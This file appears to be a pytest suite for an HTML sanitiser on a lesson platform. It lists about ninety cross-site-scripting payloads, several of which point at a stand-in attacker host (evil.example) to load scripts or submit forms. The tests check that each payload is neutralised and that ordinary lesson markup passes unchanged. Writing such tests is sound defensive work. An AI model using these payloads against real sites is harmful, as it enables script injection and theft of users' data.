"""Nothing that a browser could run, load or style passes the sanitiser, whichever parser is fooled."""

from html.parser import HTMLParser

import pytest

from genomeready.base import sanitise as module
from genomeready.base.sanitise import ATTRIBUTES, CALLOUTS, CLASSES, TAGS, allowed_attribute, sanitise

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>javascript:alert(1);</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='/figures/abc' onerror='alert(1)' alt='x'>",
    "<img src=/figures/abc/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<img src='//evil.example/x.png'>",
    "<img src='https://evil.example/x.png'>",
    "<img src='/figures/../people/1'>",
    "<img src='/figures//evil.example/x.png'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img srcset='https://evil.example/x.png 1x' src='/figures/abc'>",
    "<image src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='javascript:123'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https://user:word@evil.example'>x</a>",
    "<a href='ftp://evil.example'>x</a>",
    "<a href='#' onclick='alert(1)'>x</a>",
    "<a href='/courses' target='_blank' style='position:fixed'>x</a>",
    "<a href='/courses' ping='https://evil.example'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onmouseover=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='//evil.example'><input name=password><button formaction='//evil.example'>x</button></form>",
    "<textarea><script>alert(1)</script></textarea>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:alert(1)'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select><option onclick=alert(1)>x</select>",
    "<div contenteditable onfocus=alert(1) tabindex=1>x</div>",
    "<div class='skip callout'>x</div>",
    "<div class='btn btn-danger'>x</div>",
    "<div id='content'>x</div>",
    "<h2 id='content'>x</h2>",
    "<li id='csrf-token'>x</li>",
    "<div role='button' tabindex='0'>x</div>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "<p>" * 300 + "<script>alert(1)</script>",
    "<table><tr><td><img src=x onerror=alert(1)></table>",
    "<table><script>alert(1)</script></table>",
    "<a href=\"javascript:alert('&quot;')\">x</a>",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "<p class='callout-title' onclick=alert(1) class='answer'>x</p>",
]


class Seen(HTMLParser):
    """Gathers every tag and attribute of an answer, as a third parser reads it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def look_at(html: str) -> Seen:
    seen = Seen()
    seen.feed(html)
    seen.close()
    return seen


def assert_inert(html: str) -> None:
    seen = look_at(html)
    assert not seen.others
    for tag, attributes in seen.tags:
        assert tag in TAGS
        for name, value in attributes:
            if (tag, name) == ("a", "rel"):
                assert value == "noopener noreferrer"
                continue
            assert allowed_attribute(tag, name, value or ""), (tag, name, value)


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_payload_leaves_inert(payload: str) -> None:
    assert_inert(sanitise(payload))


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_payload_within_a_lesson_leaves_inert(payload: str) -> None:
    around = f"<h2 id='s-one'>One</h2><p>Before {payload} after</p><div class='callout callout-key'>{payload}</div>"

    cleaned = sanitise(around)

    assert_inert(cleaned)
    assert cleaned.startswith('<h2 id="s-one">One</h2>')


@pytest.mark.parametrize("payload", HOSTILE)
def test_either_parser_alone_would_have_stopped_it(payload: str) -> None:
    by_bleach, by_nh3 = module._first.clean(payload), str(module._last.clean(payload))

    assert_inert(by_nh3)
    assert_inert(by_bleach)


@pytest.mark.parametrize("payload", HOSTILE)
def test_sanitising_twice_changes_nothing_more(payload: str) -> None:
    once = sanitise(payload)

    assert sanitise(once) == once


@pytest.mark.parametrize(
    "html",
    [
        '<h2 id="s-in-short">In short</h2>',
        "<p>Text with <em>emphasis</em>, <strong>weight</strong>, <code>code</code>, x<sup>2</sup> and H<sub>2</sub>O.</p>",
        '<ul><li>One</li></ul><ol start="3"><li>Three</li></ol>',
        "<dl><dt>Term</dt><dd>Meaning</dd></dl>",
        "<blockquote><p>Said.</p></blockquote>",
        '<figure><img src="/figures/0ab1" alt="A bar" width="720" height="360"><figcaption>Shown.</figcaption></figure>',
        '<details class="answer"><summary>Try it</summary><p>So.</p></details>',
        '<aside class="callout callout-pearl" role="note"><p class="callout-title">In the clinic</p></aside>',
        "<p>Escaped: 5 &lt; 6 &amp; a&nbsp;b</p>",
    ],
)
def test_what_lessons_need_passes_unchanged(html: str) -> None:
    assert sanitise(html) == html


@pytest.mark.parametrize("kind", CALLOUTS)
def test_every_kind_of_call_out_keeps_its_class(kind: str) -> None:
    html = f'<div class="callout callout-{kind}" role="note">x</div>'

    assert sanitise(html) == html


@pytest.mark.parametrize(
    "address",
    ["https://doi.org/10.1126/science.abj6987", "http://example.org:8080/a?b=c#d", "mailto:a@example.org", "/courses/x", "#s-one", "#fn:1"],
)
def test_honest_links_stay_and_tell_nobody(address: str) -> None:
    cleaned = sanitise(f'<a href="{address}">x</a>')

    assert f'href="{address}"' in cleaned
    assert 'rel="noopener noreferrer"' in cleaned


def test_a_scrolling_table_keeps_what_makes_it_reachable() -> None:
    html = '<div class="table-scroll" tabindex="0" role="region" aria-label="Table 1"><table class="table"></table></div>'

    cleaned = sanitise(html)

    for part in ('tabindex="0"', 'role="region"', 'aria-label="Table 1"', 'class="table-scroll"'):
        assert part in cleaned


def test_footnotes_keep_their_ids_and_other_ids_go() -> None:
    assert sanitise('<li id="fn:1">x</li>') == '<li id="fn:1">x</li>'
    assert sanitise('<sup id="fnref:1">x</sup>') == '<sup id="fnref:1">x</sup>'
    assert sanitise('<li id="content">x</li>') == "<li>x</li>"


def test_nothing_on_the_list_could_run_or_style() -> None:
    names = set().union(*ATTRIBUTES.values())

    assert not {name for name in names if name.startswith("on")}
    assert not names & {"style", "srcset", "srcdoc", "action", "formaction", "target", "name"}
    assert not TAGS & {"script", "style", "svg", "math", "iframe", "form", "input", "object", "embed", "link", "meta", "base", "template"}
    assert all(name.replace("-", "").isalpha() for name in CLASSES)


def test_text_outside_tags_stays_to_the_letter() -> None:
    assert sanitise("Hello <b>there</b>, 1 &lt; 2") == "Hello there, 1 &lt; 2"
